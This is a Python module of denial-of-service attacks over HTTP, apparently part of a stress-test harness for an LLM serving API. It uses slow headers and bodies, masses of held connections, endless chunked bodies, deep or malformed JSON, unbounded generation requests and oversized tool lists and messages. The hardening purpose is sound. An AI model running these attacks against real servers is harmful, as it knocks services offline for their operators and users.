"""Attacks over HTTP for hostile.py; each is a function fn(address, count) that runs until killed."""

import json
import socket
import threading
import time

BODY = 15 << 20  # below --max-message-bytes
FOR_EVER = 4_000_000_000


def request(path, body, headers=()):
    if not isinstance(body, bytes):
        body = json.dumps(body).encode()
    lines = [f"POST {path} HTTP/1.1", "Host: localhost", "Content-Type: application/json",
             f"Content-Length: {len(body)}", *headers]
    return "\r\n".join(lines).encode() + b"\r\n\r\n" + body


def dial(address):
    host, port = address.rsplit(":", 1)
    return socket.create_connection((host, int(port)), timeout=60)


def status(data):
    return data[9:12].decode(errors="replace") if data.startswith(b"HTTP/1.1 ") else "closed"


def send_each(make, threads, read_all, address, count):
    """Sends make() on a new connection, again and again; with read_all reads answers to their ends."""
    def loop():
        while True:
            sent = make()
            try:
                with dial(address) as peer:
                    peer.sendall(sent)
                    answer = peer.recv(1 << 16)
                    count(status(answer))
                    while read_all and answer:
                        answer = peer.recv(1 << 20)
            except OSError as error:
                count(type(error).__name__)
                time.sleep(0.005)
    for _ in range(threads):
        threading.Thread(target=loop, daemon=True).start()
    time.sleep(3600)


def again(data, threads=1, read_all=False):
    """Repeats a request on new connections."""
    def attack(address, count):
        sent = data() if callable(data) else data
        send_each(lambda: sent, threads, read_all, address, count)
    return attack


def held(data, n, more=None, pause=0.5):
    """So many connections that send it and stay, and then `more` from time to time; those that the
    server ends are made anew."""
    def attack(address, count):
        peers = []
        while True:
            alive = []
            for peer in peers:
                try:
                    if more:
                        peer.sendall(more)
                    alive.append(peer)
                except OSError:
                    peer.close()
                    count("ended")
            peers = alive
            while len(peers) < n:
                try:
                    peer = dial(address)
                    peer.sendall(data)
                    peers.append(peer)
                    count("opened")
                except OSError:
                    count("refused")
                    break
            time.sleep(pause)
    return attack


def half_closed(address, count):
    """Each connection requests an endless answer and closes its sending half."""
    body = request("/v1/completions", {"prompt": "x", "max_tokens": FOR_EVER, "stream": True,
                                       "ignore_eos": True})
    peers = []
    while True:
        try:
            peer = dial(address)
            peer.sendall(body)
            peer.shutdown(socket.SHUT_WR)
            peers.append(peer)
            count("half closed")
        except OSError:
            count("refused")
            time.sleep(0.01)
        while len(peers) > 500:
            peers.pop(0).close()


def completion(**fields):
    return request("/v1/completions", {"prompt": "def main():", "max_tokens": FOR_EVER,
                                       "stream": True, "ignore_eos": True, **fields})


def chunks_without_end():
    head = ("POST /v1/completions HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
            "Transfer-Encoding: chunked\r\n\r\n").encode()
    return head + (b"10000\r\n" + b"x" * 0x10000 + b"\r\n") * 512


def tool(i, parameters=None):
    return {"type": "function", "function": {"name": f"tool_{i}", "description": "d" * 80,
                                             "parameters": parameters or {"type": "object"}}}


def schema(depth, width):
    """An object within so many lists, with so many properties."""
    inner = {"type": "object", "properties": {f"p{i}": {"type": "string"} for i in range(width)}}
    for _ in range(depth):
        inner = {"items": inner}
    return inner


def said(role="user", content="hello", **fields):
    return {"role": role, "content": content, **fields}


def chat(messages, tools=(), **fields):
    def made():
        listed = list(tools() if callable(tools) else tools)
        return request("/v1/chat/completions", {"messages": messages(), "tools": listed, "max_tokens": 1, **fields})
    return made


def called(arguments="{}", result="done"):
    """A conversation whose last messages are a call and its result."""
    call = {"id": "c", "type": "function", "function": {"name": "tool_0", "arguments": arguments}}
    return [said(), said("assistant", None, tool_calls=[call]), said("tool", result, tool_call_id="c")]


def many_messages(n):
    return lambda: [said("assistant" if i % 2 else "user", "x" * 50) for i in range(n)]


def response_chains(address, count):
    """Responses that each go on from the last one, each stored, on 8 connections."""
    def chain():
        previous = {}
        while True:
            try:
                with dial(address) as peer:
                    peer.sendall(request("/v1/responses", {"input": "x" * 2000, "max_output_tokens": 1, **previous},
                                         ("Connection: close",)))
                    answer = b"".join(iter(lambda: peer.recv(1 << 16), b""))
                count(status(answer))
                kept = answer.startswith(b"HTTP/1.1 200")
                previous = {"previous_response_id": json.loads(answer[answer.index(b"{"):])["id"]} if kept else {}
            except (OSError, ValueError) as error:
                count(type(error).__name__)
                time.sleep(0.005)
    for _ in range(8):
        threading.Thread(target=chain, daemon=True).start()
    time.sleep(3600)


SLOW_CALL = json.dumps({"messages": called(arguments=json.dumps({"a": "x" * 1000}))})[:-4].encode()
HEAD = b"POST /v1/completions HTTP/1.1\r\nHost: localhost\r\n"
ATTACKS = {
    "HTTP: slow headers": held(HEAD, 900, more=b"x: y\r\n"),
    "HTTP: 3,000 silent connections": held(b"", 3000),
    "HTTP: slow bodies": held(HEAD + b"Content-Type: application/json\r\nContent-Length: 16000000\r\n\r\n",
                              900, more=b" "),
    "HTTP: huge bodies": again(lambda: request("/v1/completions", b"x" * (20 << 20)), 4),
    "HTTP: bodies in chunks without end": again(chunks_without_end, 4),
    "HTTP: bad UTF-8": again(lambda: request("/v1/completions",
                                             b'{"prompt": "' + b"\xff" * BODY + b'"}'), 4),
    "HTTP: deep JSON": again(lambda: request("/v1/completions", b"[" * BODY), 4),
    "HTTP: wide JSON": again(lambda: request("/v1/completions",
                                             b'{"prompt": [' + b"[]," * (BODY // 3) + b"[]]}"), 4),
    "HTTP: many fields": again(lambda: request(
        "/ovq/v1/generate", b"{" + b",".join(b'"f%d":0' % i for i in range(1_000_000)) + b"}"), 4),
    "HTTP: half-closed connections": half_closed,
    "HTTP: pipelined requests, answers unread": held(
        b"GET /v1/models HTTP/1.1\r\nHost: localhost\r\n\r\n" * 200, 200,
        more=b"GET /v1/models HTTP/1.1\r\nHost: localhost\r\n\r\n" * 200),
    "HTTP: connections without end": again(b"GET /health HTTP/1.1\r\nHost: localhost\r\n\r\n", 8),
    "HTTP: 500 slow readers": held(completion(), 500),
    "HTTP: n=64, 258 log-probabilities": again(completion(n=64, logprobs=258), 1, read_all=True),
    "HTTP: 1,024 stop ids, n=64": again(completion(n=64, stop_token_ids=list(range(200)) * 5), 1,
                                        read_all=True),
    "HTTP: 16 times 1M tokens": again(lambda: completion(prompt=[1] * 1_000_000), 16, read_all=True),
    "HTTP: whole answers without end": again(completion(stream=False, n=64), 8, read_all=True),
    "HTTP: long texts to tokens": again(lambda: request("/tokenize", {"prompt": "x" * BODY}), 8,
                                        read_all=True),
    "HTTP: stored responses": again(lambda: request(
        "/v1/responses", {"input": "hi", "max_output_tokens": 1}), 8, read_all=True),
    "HTTP: stored responses of 1 MB": again(lambda: request(
        "/v1/responses", {"input": [said(content="x" * 2500)] * 400, "max_output_tokens": 1}), 8, read_all=True),
    "HTTP: chains of responses": response_chains,
    "HTTP: 1 MiB of tools": again(chat(lambda: [said()], lambda: map(tool, range(5500))), 8, read_all=True),
    "HTTP: 15 MB of tools": again(chat(lambda: [said()], lambda: map(tool, range(80_000))), 4, read_all=True),
    "HTTP: wide and deep schemas": again(chat(lambda: [said()], lambda: [
        tool(0, schema(20, 5000)), *(tool(i, schema(22, 10)) for i in range(1, 200))]), 8, read_all=True),
    "HTTP: 4,096 messages": again(chat(many_messages(4095), [tool(0)]), 8, read_all=True),
    "HTTP: 150,000 messages": again(chat(many_messages(150_001)), 4, read_all=True),
    "HTTP: results of 15 MB": again(chat(lambda: called(result="x" * BODY), [tool(0)]), 8, read_all=True),
    "HTTP: arguments of 15 MB": again(chat(lambda: called(json.dumps({"a": ["x"] * (BODY // 8)})), [tool(0)]), 8,
                                      read_all=True),
    "HTTP: arguments that are no JSON": again(chat(lambda: called('{"a":' * (BODY // 8)), [tool(0)]), 8,
                                              read_all=True),
    "HTTP: slow calls and results": held(
        HEAD.replace(b"completions", b"chat/completions") + b"Content-Type: application/json\r\n"
        b"Content-Length: 16000000\r\n\r\n" + SLOW_CALL, 900, more=b"x"),
}
